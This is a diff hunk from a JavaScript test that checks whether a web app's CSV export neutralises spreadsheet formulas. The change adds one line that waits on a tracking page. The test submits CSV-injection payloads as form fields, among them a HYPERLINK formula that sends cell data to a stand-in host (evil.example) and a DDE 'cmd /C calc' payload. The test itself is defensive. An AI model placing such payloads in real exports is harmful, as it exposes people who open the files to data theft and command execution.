@@ -1327,6 +1327,7 @@ test('CSV exports neutralise formulas in text cells', async () => {
 	const title = '=HYPERLINK("http://evil.example/?"&A1,"x")';
 	const res = await v.post('/gui-don', { multipart: { csrf: v.csrf, kind: 'petition', title, content: '+cmd|\' /C calc\'!A0', name: '@SUM(1+1)', address: '-2+3', phone: '0911222555', commune: '10507', signed: '1' } });
 	assert.equal(res.status, 303);
+	await v.get(res.location); /* the tracking page waits for the case to be built */
 	const csv = (await (await actor('hai-phong.leader')).browser.get('/cases/export.csv')).text;
 	const line = csv.split('\n').find((l) => l.includes('HYPERLINK'));
 	assert.ok(line, 'the case is not in the export');
